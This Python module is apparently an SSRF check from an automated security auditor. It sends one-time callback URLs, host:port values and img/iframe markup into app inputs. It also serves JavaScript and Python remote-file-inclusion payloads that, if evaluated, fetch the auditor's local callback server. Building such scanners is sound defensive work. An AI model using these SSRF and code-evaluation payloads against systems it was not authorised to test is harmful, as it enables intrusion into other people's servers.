"""SSRF: the app requests a one-time URL on auditor's callback server (127.0.0.1).

No request waits for the callback: a fetch made while handling the request is logged before
its answer arrives, and one made later is collected by `settle` at the end of the run, with a
single short wait for all of them. When the fetch is seen at once, one more URL whose answer
is `a*b` tells whether the app also evaluates what it fetched (remote file inclusion): the
product in the answer is code injection. The served text, in the route's language, also makes
the evaluator request the callback server with another product: code that ran is proven even
where its value is never shown (or the handler dies on it). A handler that renders HTML in a
headless browser (a PDF made from a page built with the input) also gets markup whose image and
frame name a one-time URL: the browser fetches them on the server."""

from __future__ import annotations

import re

from auditor.probe.callback import CallbackServer, heard_late
from auditor.probe.checks.canary import fresh, numbers, token
from auditor.probe.checks.sql_code import handler_text
from auditor.probe.interface import Confirmation, Exchange, InjectionPoint, PointCheck, ProbeContext, Sender
from auditor.probe.profile import PointProfile, plain_echo

# A handler that renders HTML in a headless browser or an HTML-to-PDF tool.
RENDERS_MARKUP = re.compile(r"puppeteer|playwright|html-pdf|html_pdf|htmlToPdf|generatePdf|wkhtmltopdf|pdfkit|"
                            r"weasyprint|setContent\(|\.pdf\(", re.I)
MARKUP = '<img src="{url}"><iframe src="{url}"></iframe>'
# An input named for a host: the code may build the URL around it.
HOST_NAME = re.compile(r"host|domain|server|addr|site|endpoint|^ip$", re.I)


class Ssrf(PointCheck):
    name = "ssrf"
    category = "ssrf"

    listens = True  # settle() waits for late callbacks only
    SETTLE = 0.5  # seconds the run's end waits for late callbacks, once for all of them
    INCLUDED_WAIT = 0.3  # seconds to wait for served code's own fetch (only where the app fetched the URL)

    def __init__(self) -> None:
        self.pending: list[tuple[str, Exchange, InjectionPoint]] = []  # sent, not yet called back

    def worth(self, point: InjectionPoint, profile: PointProfile) -> bool:
        return True  # a fetch can be blind (its answer like any other value's): one URL is always tried

    def run(self, sender: Sender, ctx: ProbeContext, point: InjectionPoint) -> Confirmation | None:
        server = ctx.callback
        if not isinstance(server, CallbackServer):
            return None
        profile = ctx.profile(point)
        for host in ("127.0.0.1", "localhost"):
            tok = token()
            url = server.url(tok, host)
            ex = sender.send(point, url)
            if server.seen(tok):
                return self._included(sender, server, point, host) or self._confirmed(ex, tok, point)
            self.pending.append((tok, ex, point))
            if plain_echo(profile, ex, url):
                break  # a URL is answered like any other text: the other host name would be too
        if RENDERS_MARKUP.search(handler_text(ctx.project, point.route)):
            # HTML a headless browser renders (a PDF of a page built from the input): the markup's
            # image and frame are fetched by the browser, on the server
            tok = token()
            ex = sender.send(point, MARKUP.format(url=server.url(tok)))
            if server.seen(tok):
                return self._confirmed(ex, tok, point)
            self.pending.append((tok, ex, point))
        if HOST_NAME.search(point.param.name):
            # A host the code puts inside a URL of its own (`f"{scheme}://{host}:{port}{path}"`):
            # the callback's host, port and path, and a `?` that makes the rest of its URL a query.
            tok = token()
            ex = sender.send(point, server.url(tok).split("://", 1)[1] + "?")
            if server.seen(tok):
                return self._confirmed(ex, tok, point)
            self.pending.append((tok, ex, point))
        # An input that is a bare host and port (`HTTPConnection(value)`): no path of ours reaches
        # the server, so the proof is a connection to a port opened for this request alone (blind:
        # such a connection changes no answer, so it is tried wherever the URL was not fetched).
        tok, port = server.open_port()
        tok += "/"  # as heard: `port:N.1/` is no part of `port:N.12/`
        ex = sender.send(point, f"127.0.0.1:{port}")
        if server.seen(tok):
            return self._connected(ex, tok, point)
        self.pending.append((tok, ex, point))
        return None

    def settle(self, ctx: ProbeContext, sender: Sender | None = None) -> list[Confirmation]:
        return [(self._connected if tok.startswith("port:") else self._confirmed)(ex, tok, point)
                for tok, ex, point in heard_late(ctx.callback, self.pending, self.SETTLE)]

    def _connected(self, ex: Exchange, tok: str, point: InjectionPoint) -> Confirmation:
        return Confirmation(self.category, self.name,
                            f"SSRF: {point.label} makes the server connect to a host and port the caller chose "
                            f"(a port auditor opened on 127.0.0.1 for this request alone, {tok[5:].split('.')[0]}, was "
                            "connected to)", ex, "127.0.0.1:" + tok[5:].split(".")[0], point)

    def _confirmed(self, ex: Exchange, tok: str, point: InjectionPoint) -> Confirmation:
        return Confirmation(self.category, self.name,
                            f"SSRF: {point.label} makes the server request a URL the caller chose "
                            "(auditor's callback server received the one-time token)", ex, tok, point)

    def _included(self, sender: Sender, server: CallbackServer, point: InjectionPoint, host: str) -> Confirmation | None:
        tok, (a, b) = token(), numbers()
        echo, (c, d) = token(), numbers()
        server.serve(tok, included_code(point.route.language, f"{a}*{b}", server.url(echo), f"{c}*{d}"))
        ex = sender.send(point, server.url(tok, host))
        if fresh(ex, str(a * b), sender.baseline(point)):
            return Confirmation("code-injection", "code",
                                f"remote file inclusion: {point.label} makes the server fetch a URL and evaluate "
                                "its text (the product of two random numbers it served came back)", ex, str(a * b),
                                point, severity="critical")
        # The evaluation made during the request shows before its answer; a short wait covers a
        # handler that evaluates after answering, or dies on the value (then there is no answer).
        if server.seen(f"{echo}{c * d}", wait=self.INCLUDED_WAIT):
            return Confirmation("code-injection", "code",
                                f"remote file inclusion: {point.label} makes the server fetch a URL and evaluate "
                                "its text (the code it served fetched auditor's callback server with the product "
                                "of two random numbers)", ex, f"{echo}{c * d}", point, severity="critical")
        return None


def included_code(language: str, product: str, url: str, second: str) -> str:
    """What the callback server serves to test remote file inclusion: an expression whose value
    is `product`, and which, in the route's own language, first requests `url` followed by the
    value of `second` (the evaluator proves it ran even where the value is not shown). The
    request goes to auditor's callback server on 127.0.0.1, bypassing any proxy."""
    if language in ("javascript", "typescript"):
        # node sends the request only after the current code returns, so the value must not end
        # the process first (a handler that uses it as a child process, `ev.stdout.on(...)`,
        # would throw): it is a stand-in that any property or call returns itself, and that
        # reads as the product wherever it becomes text or a number.
        value = (f"(()=>{{const v={product};const p=new Proxy(function(){{}},{{get:(t,k)=>k===Symbol.toPrimitive?"
                 f"()=>v:k==='then'?undefined:p,apply:()=>p}});return p}})()")
        return f"(typeof require=='function'&&require('http').get('{url}'+({second})).on('error',()=>0),{value})"
    if language == "python":
        lib = "__import__('urllib.request').request"
        return f"({lib}.build_opener({lib}.ProxyHandler({{}})).open('{url}'+str({second}),timeout=3),{product})[1]"
    return product
